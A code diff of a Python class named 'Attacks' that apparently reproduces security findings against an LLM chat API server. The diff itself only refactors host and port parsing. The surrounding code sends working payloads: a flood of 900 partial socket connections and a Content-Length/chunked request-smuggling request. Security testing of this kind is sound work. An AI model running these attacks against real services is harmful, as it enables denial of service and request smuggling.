@@ -164,8 +164,8 @@ class Attacks:
     """The findings, each a method that attacks for some seconds and returns the statuses of its requests."""
 
     def __init__(self, address: str, key: str, model: str) -> None:
-        self._address, self._model, self._key = address, model, key
-        headers = {"Authorization": f"Bearer {key}"}
+        url, headers = httpx.URL(address), {"Authorization": f"Bearer {key}"}
+        self._place, self._model, self._key = (url.host, url.port), model, key
         self._client = httpx.Client(base_url=address, headers=headers, timeout=10 * TIMEOUT_S)
 
     def marks(self) -> list[int]:
@@ -202,7 +202,7 @@ class Attacks:
             connections = []
             for number in range(900):
                 with contextlib.suppress(OSError):
-                    connection = stack.enter_context(socket.create_connection(self._host(), timeout=TIMEOUT_S))
+                    connection = stack.enter_context(socket.create_connection(self._place, timeout=TIMEOUT_S))
                     connection.sendall((get, post + b"\r\n", post, keyed, b"")[number % 5])
                     connections.append(connection)
             for _ in range(8):
@@ -284,14 +284,10 @@ class Attacks:
         """A body of two lengths, with a second request behind the shorter one."""
         common = f"HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {self._key}\r\n"
         head, second = f"POST {CHAT} {common}Content-Type: application/json\r\n", f"GET {UPLOAD} {common}\r\n"
-        with socket.create_connection(self._host(), timeout=TIMEOUT_S) as connection:
+        with socket.create_connection(self._place, timeout=TIMEOUT_S) as connection:
             connection.sendall(f"{head}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}".encode())
             answers = b"".join(iter(lambda: connection.recv(2**16), b""))
         return [int(part[:3]) for part in answers.decode().split("HTTP/1.1 ")[1:]]
-
-    def _host(self) -> tuple[str, int]:
-        host, port = self._address.removeprefix("http://").split(":")
-        return host, int(port)
 
     def _ask(self, **options: Any) -> int:
         body = {"model": self._model, "messages": [{"role": "user", "content": "What?"}], "max_tokens": 2, **options}
